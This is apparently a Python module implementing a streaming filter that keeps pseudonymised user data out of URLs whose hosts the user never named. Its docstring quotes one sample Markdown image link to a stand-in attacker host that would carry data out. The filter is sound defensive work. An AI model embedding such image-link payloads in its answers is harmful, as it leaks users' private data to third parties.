"""Where in an answer an address begins and ends, and whose it is.

An answer that a provider wrote may hold ``![](https://evil.example/?q=<stand-in>)``: an app that
shows the picture would send the original to whoever the provider chose. So nothing is restored in
what looks like an address, unless its host is one that the person's own words named and nothing
that a browser could read as more of a host follows it. Where browsers, Markdown and HTML disagree
on where an address ends, the longest counts: a restoration that is lost does less harm.

Longer than most modules: it is one machine, whose states do not come apart.
"""

from __future__ import annotations

import re
from collections.abc import Set
from enum import Enum

__all__ = ["Fence"]

_MOST_SPACES = 32
_MOST_SLASHES = 128
_LONGEST_HOST = 253
_LONGEST_HEAD = 300
_PAIRS = {'"': '"', "'": "'", "(": ")", "<": ">", "[": "]", "`": "`", "{": "}"}
_DOT = r"(?:[.\u3002\uff0e\uff61]|%2[eE])"
_LABEL = re.compile(r"[\w.%\u3002\uff0e\uff61-]+")
_HOST = re.compile(
    rf"{_DOT}(?:[^\W\d_]{{2,}}|xn--[\w-]+){_DOT}?\Z|(?:\A|\D)(?:[0-9]+\.){{3}}[0-9]+\Z"
    r"|%[0-9a-fA-F]{2}[^/]*\Z",
    re.IGNORECASE,
)
_WWW = re.compile(r"(?:\A|[^a-z0-9])www[.\u3002\uff0e\uff61]", re.IGNORECASE)
_SCHEME = re.compile(r"(?:\A|[^a-z])(https?|wss?|ftp)\Z", re.IGNORECASE)
_PORT = re.compile(r"(?::[0-9]{0,5})?")
_HEAD = re.compile(
    r"(?P<start>(?:[A-Za-z]{2,6}:)?/{0,2})(?P<host>[A-Za-z0-9.-]*)(?P<port>:[0-9]{0,5})?"
)
_STARTS = frozenset("// http:// https:// ws:// wss:// ftp://".split())
_HARMLESS = frozenset(("mailto:", "tel:"))
_TAIL = re.compile(r"[.,;:!*_'\")\]}]{0,16}")
_ATTRIBUTE = re.compile(
    r"(?:\A|[^a-z])(?:src|href|srcset|srcdoc|poster|background|formaction|style)\Z",
    re.IGNORECASE,
)
_ENTITY = re.compile(
    r"&(?:#|(?:sol|bsol|colon|period|tab|newline|quest|num|commat|percnt|equals);)", re.IGNORECASE
)
_ENTITY_PART = re.compile(r"&[A-Za-z]{0,8}\Z")
_SLASHES = re.compile(r"[/\\]+")
_SPACES = re.compile(r"\s*")
_PLAIN = re.compile(r"[^\w.%\u3002\uff0e\uff61/\\\]<=>&\s\"'-]+")
_VALUE_ENDS = " \t\r\n\f>"
_OF_A_PATH = "/?#&=:+~@!$*"
_STRIPPED = re.compile(r"[\t\r\n]+|[^\t\r\n]+")


class _State(Enum):
    OPEN = "may be restored"
    WHOLE = "an address from the first character, not judged yet"
    BARE = "a stranger's, to white space or <"
    SKIP = "white space before a stranger's"
    QUOTE = "a stranger's, to its quote"
    VALUE = "a stranger's, the value of an attribute without quotes"
    END = "passed as it is, for good"


_Step = tuple[int, bool] | None


class Fence:
    """Tells what of a text may be restored from what is in an address of a stranger.

    Args:
        own: hosts of the person's own words, and their stand-ins.
        string: the text is one string of data, such as an argument of a tool. Who takes it for an
            address takes all of it, without tabs and line ends: a stranger's address in it lasts
            to its end.
        address: the text is an address, whatever it looks like.

    Guarantees:
        However a text is split, it is told apart the same way, and what waits is bounded; each
        character is looked at a bounded number of times (tests/adversary/test_pseudonym_links.py::
        test_any_text_is_told_apart_the_same_however_it_is_split,
        test_what_waits_is_bounded, test_the_work_grows_with_the_text_alone).
    """

    def __init__(self, own: Set[str], *, string: bool = False, address: bool = False) -> None:
        self._own, self._string = own, string
        self._state = _State.WHOLE if address else _State.OPEN
        self._text = ""
        self._widths: list[int] = []
        self._previous = self._quote = self._until = self._word = ""
        self._tag = 0  # 1: in a tag, 2: after its first =
        self._far = self._in_own = self._long = False
        self.steps = 0
        """How many decisions were made."""

    @property
    def held(self) -> int:
        """How many characters wait."""
        return sum(self._widths) if self._string else len(self._text)

    def feed(self, text: str) -> list[tuple[int, bool]]:
        """Take more; return how many characters go on, and whether as they are, in order."""
        out: list[tuple[int, bool]] = []
        if not self._string:
            self._text += text
            self._run(out, final=False)
            return out
        for part in _STRIPPED.findall(text):
            if part[0] not in "\t\r\n":
                self._text += part
                self._widths += [1] * len(part)
                self._run(out, final=False)
            elif not self._text:
                _add(out, len(part), self._state not in (_State.OPEN, _State.WHOLE))
            else:
                self._widths[-1] += len(part)
                if self._widths[-1] > _MOST_SPACES:
                    self._state = _State.END
                    self._run(out, final=False)
        return out

    def end(self) -> list[tuple[int, bool]]:
        """Return what waited; should more come all the same, it goes on as it is."""
        out: list[tuple[int, bool]] = []
        self._run(out, final=True)
        self._state = _State.END
        return out

    def _run(self, out: list[tuple[int, bool]], *, final: bool) -> None:
        text, at = self._text, 0
        while at < len(text):
            self.steps += 1
            step = self._step(text, at, final)
            if step is None:
                break
            end, shut = step
            if end > at:
                size = sum(self._widths[at:end]) if self._string else end - at
                _add(out, size, shut)
                self._previous = text[end - 1]
            at = end
        self._text = text[at:]
        if self._string:
            del self._widths[:at]

    def _step(self, text: str, at: int, final: bool) -> _Step:
        """Return how far to go on, and whether as it is; None where more is needed."""
        if self._state is _State.OPEN:
            return self._open(text, at, final)
        if self._state is _State.WHOLE:
            head = _past(_SPACES, text, at)
            if head - at > _MOST_SPACES:
                return self._shut(at)
            if head == len(text):
                return (head, False) if final else None
            self._state = _State.OPEN
            step = self._judge(text, head, final, bare=True)
            if step is None:
                self._state = _State.WHOLE
            return step
        return self._closed(text, at)

    # In a stranger's address.

    def _closed(self, text: str, at: int) -> _Step:
        if self._state is _State.END:
            return len(text), True
        if self._state is _State.SKIP:
            end = _past(_SPACES, text, at)
            if end > at:
                return end, True
            self._state = _State.BARE
            if text[at] in "\"'<":
                self._state, self._quote = _State.QUOTE, _PAIRS[text[at]]
                return at + 1, True
        if self._state is _State.QUOTE:
            return self._to_quote(text, at)
        stops = r"[\s>]" if self._state is _State.VALUE else r"[\s<]"
        found = re.compile(stops).search(text, at)
        end = found.start() if found else len(text)
        if self._state is _State.VALUE:
            self._look(text, at, end)
        elif self._tag == 1 and ">" in text[at:end]:
            self._tag = 0
        if found:
            self._state = _State.OPEN
        return end, True

    def _to_quote(self, text: str, at: int) -> _Step:
        found = re.compile(r"[>\n]" if self._quote == ">" else self._quote).search(text, at)
        end = found.start() if found else len(text)
        self._look(text, at, end)
        if not found:
            return end, True
        self._state = _State.OPEN if self._tag else _State.BARE
        return (end if found[0] == "\n" else end + 1), True

    def _look(self, text: str, at: int, end: int) -> None:
        """Note whether an attribute's value looks like an address at all."""
        self._far = self._far or any(char in text[at:end] for char in ":/\\")

    def _shut(self, end: int, *, attribute: bool = False, quote: str = "") -> _Step:
        """Begin a stranger's address."""
        self._in_own = False
        if self._until:
            quote, self._until = self._until, ""
            self._state = _State.QUOTE if len(quote) == 1 else _State.VALUE
            self._quote = quote
        elif attribute and self._tag:
            self._state, self._quote = (_State.QUOTE if quote else _State.VALUE), quote
        elif self._string:
            self._state = _State.END
        else:
            self._state, self._quote = (_State.QUOTE if quote else _State.BARE), quote
        return end, True

    # Outside of one.

    def _open(self, text: str, at: int, final: bool) -> _Step:
        char = text[at]
        if self._until and (char in self._until):
            quoted = len(self._until) == 1
            self._until, self._in_own = "", False
            if quoted:
                return at + 1, True
        if self._tag == 2 and not self._until:
            return self._in_tag(text, at, final)
        if found := _LABEL.match(text, at):
            return self._label(text, at, found.end(), final)
        self._long = False
        if char not in _OF_A_PATH:
            self._in_own = False
        if char in "/\\":
            return self._slashes(text, at, final)
        if char.isspace():
            return _past(_SPACES, text, at) if not self._until else at + 1, False
        word, self._word = self._word, ""
        if char == "=" and not self._until and (self._tag or _ATTRIBUTE.search(word)):
            step = self._value(text, at, final)
            self._word = word if step is None else ""
            return step
        if char == "]":
            return self._bracket(text, at, final)
        if char == "<":
            return self._angle(text, at, final)
        if char == "&" and not self._until:
            return self._entity(text, at, final)
        if char == ">" and self._tag:
            return self._leave_tag(at)
        plain = _PLAIN.match(text, at) if not self._in_own else None
        return (plain.end() if plain else at + 1), False

    def _label(self, text: str, at: int, end: int, final: bool) -> _Step:
        """Judge a word, which may be a scheme or a host."""
        if self._long or end - at > _LONGEST_HOST:
            self._long, self._word = end == len(text), ""
            return end, False
        if end == len(text) and not final:
            return None
        run = text[at:end]
        self._word = run[-16:]
        if text[end : end + 1] == ":" and (found := _SCHEME.search(run)):
            if found.start(1):
                return at + found.start(1), False
            return self._judge(text, at, final, closer=_PAIRS.get(self._previous, ""))
        if self._in_own or not (_HOST.search(run) or _WWW.search(run)):
            return end, False
        named = _WWW.search(run) is not None or self._is_address(text, end, final)
        if named is None:
            return None
        if not named:
            return end, False
        closer = _PAIRS.get(self._previous, "")
        border = not self._previous or self._previous.isspace() or closer or self._previous in "*_"
        return self._judge(text, at, final, closer=closer, bare=bool(border))

    def _is_address(self, text: str, end: int, final: bool) -> bool | None:
        """Tell by what follows a host without a scheme whether it is meant as an address."""
        place = _past(_PORT, text, end)
        if place == len(text):
            return False if final else None
        if text[place] != "?":
            return text[place] in "/\\"
        if place + 1 == len(text):
            return False if final else None
        return not text[place + 1].isspace() and text[place + 1] not in "\"')*_<"

    def _slashes(self, text: str, at: int, final: bool) -> _Step:
        end = _past(_SLASHES, text, at)
        if end - at > _MOST_SLASHES:
            return self._shut(at)
        if end == len(text) and not final:
            return None
        if end - at == 1 or end == len(text) or text[end].isspace():
            return end, False  # two slashes and a space: a comment
        return self._judge(text, at, final, closer=_PAIRS.get(self._previous, ""))

    def _bracket(self, text: str, at: int, final: bool) -> _Step:
        """Judge what Markdown has for destinations."""
        follows = text[at + 1 : at + 3]
        if not final and (not follows or follows == ":"):
            return None
        if follows[:1] == "(" or (follows[:1] == ":" and follows[1:].isspace()):
            return self._destination(text, at, at + 2, final, ")" if follows[0] == "(" else "")
        return at + 1, False

    def _destination(self, text: str, at: int, head: int, final: bool, closer: str) -> _Step:
        place = _past(_SPACES, text, head)
        if place - head > _MOST_SPACES:
            self._state = _State.END if self._string else _State.SKIP
            return head, True
        if place == len(text):
            return (place, False) if final else None
        quote = _PAIRS[text[place]] if text[place] in "\"'<" else ""
        place += 1 if quote else 0
        return self._judge(text, place, final, closer=quote or closer, quote=quote)

    def _angle(self, text: str, at: int, final: bool) -> _Step:
        if at + 1 == len(text) and not final:
            return None
        follows = text[at + 1 : at + 2]
        if follows.isascii() and follows.isalpha():
            self._tag, self._far = 1, False
        return at + 1, False

    def _entity(self, text: str, at: int, final: bool) -> _Step:
        if _ENTITY.match(text, at):
            self._state = _State.BARE
            return at + 1, True
        if not final and _ENTITY_PART.match(text, at):
            return None
        return at + 1, False

    # In a tag: from its first = on nothing is restored but addresses of the person's own.

    def _in_tag(self, text: str, at: int, final: bool) -> _Step:
        found = re.compile("[=>]").search(text, at)
        if found is None or found.start() > at:
            return (found.start() if found else len(text)), True
        return self._leave_tag(at) if found[0] == ">" else self._value(text, at, final)

    def _leave_tag(self, at: int) -> _Step:
        # Where HTML is off it was no tag, and a bare address in it goes on behind it.
        self._state = _State.BARE if self._far else _State.OPEN
        shut = self._tag == 2
        self._tag, self._far = 0, False
        return at + 1, shut

    def _value(self, text: str, at: int, final: bool) -> _Step:
        """Judge the value of an attribute."""
        place = _past(_SPACES, text, at + 1)
        if place - at > _MOST_SPACES:
            self._tag, self._state = self._tag and 2, _State.SKIP
            return at + 1, True
        if place == len(text):
            return (place, False) if final else None
        quote = text[place] if text[place] in "\"'" else ""
        place += 1 if quote else 0
        was, self._tag = self._tag, self._tag and 2
        step = self._judge(text, place, final, closer=quote or ">", quote=quote, value=True)
        if step is None:
            self._tag = was
        return step

    # Whose an address is.

    def _judge(
        self,
        text: str,
        head: int,
        final: bool,
        *,
        closer: str = "",
        bare: bool = False,
        quote: str = "",
        value: bool = False,
    ) -> _Step:
        """Judge the address whose head begins at ``head``, and what may close it."""
        found = _HEAD.match(text, head)
        if found is None:
            return self._shut(head, attribute=value, quote=quote)
        start = found["start"].lower()
        if start in _HARMLESS and (final or found.end("start") < len(text)):
            self._until = (quote or _VALUE_ENDS) if value and self._tag else ""
            return found.end("start"), False
        if found.end() - head > _LONGEST_HEAD:
            return self._shut(head, attribute=value, quote=quote)
        if found.end() == len(text) and not final:
            return None
        host = found["host"].rstrip(".")
        ends: int | None = -1
        if host.lower() in self._own and (start in _STARTS or (bare and not start)):
            ends = self._own_end(text, found, final, closer, strict=bool(quote))
        if ends is None:
            return None
        if ends < 0:
            return self._shut(head, attribute=value, quote=quote)
        follows = text[ends : ends + 1]
        if value and self._tag:
            self._until = quote or _VALUE_ENDS
        elif not follows or follows not in "/?#":
            self._state = _State.END if self._string else _State.BARE
        self._in_own = True
        return ends, False

    def _own_end(
        self, text: str, found: re.Match[str], final: bool, closer: str, *, strict: bool
    ) -> int | None:
        """Return where the head of an own address ends; -1 if more than it would be fetched."""
        port = len(found["port"] or "") > 1
        end = found.end("port" if port else "host")
        follows = text[end : end + 1]
        if not follows or follows in "/?#" or follows == closer:
            return end
        if strict:
            return -1
        if not port:
            end = found.start("host") + len(found["host"].rstrip("."))
        place = _past(_TAIL, text, end)
        if place == len(text):
            return end if final else None
        return end if text[place].isspace() or text[place] == "<" else -1


def _past(pattern: re.Pattern[str], text: str, at: int) -> int:
    found = pattern.match(text, at)
    return found.end() if found else at


def _add(out: list[tuple[int, bool]], size: int, shut: bool) -> None:
    if out and out[-1][1] == shut:
        out[-1] = (out[-1][0] + size, shut)
    else:
        out.append((size, shut))
